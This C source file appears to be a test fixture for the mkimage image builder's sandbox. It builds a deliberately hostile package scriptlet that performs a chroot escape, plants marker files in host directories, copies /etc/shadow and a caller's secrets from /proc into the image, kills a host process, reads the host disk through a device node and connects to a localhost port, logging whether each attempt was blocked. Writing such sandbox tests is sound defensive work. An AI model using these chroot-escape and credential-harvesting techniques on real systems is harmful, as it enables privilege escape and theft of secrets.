/* demo-hostile: what a malicious %post (or profile chroot command) running as root tries, for mkimage's
 * sandbox tests.  Built static by scripts/make-test-repo.py into the demo-hostile package.
 *
 *   demo-hostile post            escape the chroot, then: marker files in the host's /tmp, /etc, /root and
 *                                the caller's working directory; read /etc/shadow and the caller's fake
 *                                credentials (environment and home) into the image; SIGKILL the host process
 *                                named mkimage-victim; make a block device node for the host's root disk
 *   demo-hostile command PORT    the same, then a TCP connection to 127.0.0.1:PORT
 *
 * Every attempt is written to /var/lib/demo-hostile/MODE.txt in the image, one line each:
 * "attack NAME: blocked (REASON)" or "attack NAME: SUCCEEDED ..."; what it read goes to loot-MODE-WHAT there.  It never writes to a device, and exits 0
 * (so the build's outcome is the sandbox's, not the scriptlet's).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <unistd.h>

#define MARKER "mkimage-hostile-marker"
#define CWD_FLAG "mkimage-hostile-cwd-here"
#define SECRET_VAR "MKIMAGE_HOSTILE_SECRET="
#define CREDENTIALS ".mkimage-hostile-credentials"
#define VICTIM "mkimage-victim"
#define LOOT_DIR "var/lib/demo-hostile"

static FILE *report;
static int image_fd = -1; /* the image's / (the chroot), opened before the escape */
static const char *mode = "post";

static void blocked(const char *attack, const char *why) { fprintf(report, "attack %s: blocked (%s)\n", attack, why); }
static void succeeded(const char *attack, const char *what) { fprintf(report, "attack %s: SUCCEEDED %s\n", attack, what); }

/* Keep what was read in the image, as an exfiltrating scriptlet would. */
static void loot(const char *name, const char *data, size_t size) {
    char path[256];
    snprintf(path, sizeof path, LOOT_DIR "/loot-%s-%s", mode, name);
    int fd = openat(image_fd, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        if (write(fd, data, size) < 0) { /* nothing to do */ }
        close(fd);
    }
}

static ssize_t read_file(const char *path, char *buf, size_t size) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t total = 0, got;
    while (total < (ssize_t)size - 1 && (got = read(fd, buf + total, size - 1 - total)) > 0) total += got;
    int saved = errno;
    close(fd);
    errno = saved;
    if (total >= 0) buf[total] = '\0';
    return total;
}

/* The classic: chroot into a subdirectory while the cwd stays outside it, climb, chroot("."). */
static void escape_chroot(void) {
    mkdir("/hostile-escape", 0700);
    if (chroot("/hostile-escape") != 0) {
        fprintf(report, "chroot-escape: chroot failed (%s)\n", strerror(errno));
        return;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) {
        fprintf(report, "chroot-escape: final chroot failed (%s)\n", strerror(errno));
        return;
    }
    if (chdir("/") != 0) { /* stay where we are */ }
    unlinkat(image_fd, "hostile-escape", AT_REMOVEDIR);
    fprintf(report, "chroot-escape: done (now at the outermost root this process can reach)\n");
}

static void plant_marker(const char *attack, const char *directory) {
    char path[4096];
    snprintf(path, sizeof path, "%s/" MARKER, directory);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        blocked(attack, strerror(errno));
        return;
    }
    if (write(fd, "hostile\n", 8) < 0) { /* the file is what counts */ }
    close(fd);
    succeeded(attack, path);
}

/* Every process whose working directory holds CWD_FLAG is the caller: plant a marker there. */
static void plant_cwd_marker(void) {
    DIR *proc = opendir("/proc");
    int found = 0;
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        char flag[512], cwd[512];
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(flag, sizeof flag, "/proc/%s/cwd/" CWD_FLAG, entry->d_name);
        if (access(flag, F_OK) != 0) continue;
        snprintf(cwd, sizeof cwd, "/proc/%s/cwd", entry->d_name);
        plant_marker("marker-caller-cwd", cwd);
        found = 1;
        break;
    }
    if (proc) closedir(proc);
    if (!found) blocked("marker-caller-cwd", "the caller's working directory is not reachable");
}

static void read_shadow(void) {
    static char buf[65536];
    ssize_t size = read_file("/etc/shadow", buf, sizeof buf);
    if (size < 0) {
        blocked("read-shadow", strerror(errno));
        return;
    }
    loot("shadow", buf, (size_t)size);
    succeeded("read-shadow", "/etc/shadow copied into the image");
}

/* The caller's environment (any process holding SECRET_VAR), and the credentials file in its HOME. */
static void read_credentials(void) {
    static char env[1 << 20];
    int env_found = 0, home_found = 0;
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        char path[512];
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        ssize_t size = read_file(path, env, sizeof env);
        if (size <= 0) continue;
        const char *secret = NULL, *home = NULL;
        for (char *var = env; var < env + size; var += strlen(var) + 1) {
            if (strncmp(var, SECRET_VAR, strlen(SECRET_VAR)) == 0) secret = var;
            if (strncmp(var, "HOME=", 5) == 0) home = var + 5;
        }
        if (secret && !env_found) {
            loot("environ", secret, strlen(secret));
            succeeded("read-caller-environment", secret);
            env_found = 1;
        }
        if (secret && home && !home_found) {
            static char creds[65536];
            char file[4096];
            snprintf(file, sizeof file, "%s/" CREDENTIALS, home);
            ssize_t got = read_file(file, creds, sizeof creds);
            if (got >= 0) {
                loot("credentials", creds, (size_t)got);
                succeeded("read-caller-home", file);
                home_found = 1;
            }
        }
    }
    if (proc) closedir(proc);
    if (getenv("MKIMAGE_HOSTILE_SECRET") && !env_found) succeeded("read-caller-environment", "in its own environment");
    if (!env_found) blocked("read-caller-environment", "no process with the caller's secret is visible");
    if (!home_found) blocked("read-caller-home", "the caller's home is not reachable");
}

static void signal_victim(void) {
    DIR *proc = opendir("/proc");
    int found = 0;
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        char path[512], comm[64];
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        if (read_file(path, comm, sizeof comm) < 0 || strcmp(comm, VICTIM "\n") != 0) continue;
        found = 1;
        if (kill(atoi(entry->d_name), SIGKILL) == 0) {
            succeeded("signal-host-process", entry->d_name);
        } else {
            blocked("signal-host-process", strerror(errno));
        }
    }
    if (proc) closedir(proc);
    if (!found) blocked("signal-host-process", "no process named " VICTIM " is visible");
}

/* A device node for the disk that holds the host's /usr, opened read-only (never written). */
static void open_host_disk(void) {
    struct stat st;
    if (stat("/usr", &st) != 0 || major(st.st_dev) == 0) {
        blocked("host-disk", "no block device behind /usr");
        return;
    }
    const char *node = LOOT_DIR "/disk";
    if (mknodat(image_fd, node, S_IFBLK | 0600, st.st_dev) != 0) {
        blocked("host-disk", strerror(errno));
        return;
    }
    int fd = openat(image_fd, node, O_RDONLY);
    int saved = errno;
    char sector[512];
    if (fd < 0) {
        blocked("host-disk", strerror(saved));
    } else {
        ssize_t got = read(fd, sector, sizeof sector);
        close(fd);
        if (got > 0) succeeded("host-disk", "read the host's disk");
        else blocked("host-disk", "made the node but could not read it");
    }
    unlinkat(image_fd, node, 0);
}

static void connect_listener(const char *port) {
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
    inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
    if (sock < 0 || connect(sock, (struct sockaddr *)&address, sizeof address) != 0) {
        blocked("connect-host-listener", strerror(errno));
    } else {
        if (write(sock, "hostile\n", 8) < 0) { /* connected is what counts */ }
        succeeded("connect-host-listener", port);
    }
    if (sock >= 0) close(sock);
}

int main(int argc, char **argv) {
    if (argc < 2 || (strcmp(argv[1], "post") != 0 && (strcmp(argv[1], "command") != 0 || argc < 3))) {
        fprintf(stderr, "usage: demo-hostile post | demo-hostile command PORT\n");
        return 2;
    }
    mode = argv[1];
    image_fd = open("/", O_RDONLY | O_DIRECTORY);
    char report_path[256];
    snprintf(report_path, sizeof report_path, LOOT_DIR "/%s.txt", argv[1]);
    int report_fd = openat(image_fd, report_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (image_fd < 0 || report_fd < 0 || !(report = fdopen(report_fd, "w"))) {
        perror("demo-hostile: cannot write its report in the image");
        return 0;
    }
    setvbuf(report, NULL, _IOLBF, 0);
    escape_chroot();
    plant_marker("marker-host-tmp", "/tmp");
    plant_marker("marker-host-etc", "/etc");
    plant_marker("marker-host-root", "/root");
    plant_cwd_marker();
    read_shadow();
    read_credentials();
    signal_victim();
    open_host_disk();
    if (strcmp(argv[1], "command") == 0) connect_listener(argv[2]);
    fprintf(report, "done\n");
    fclose(report);
    return 0;
}
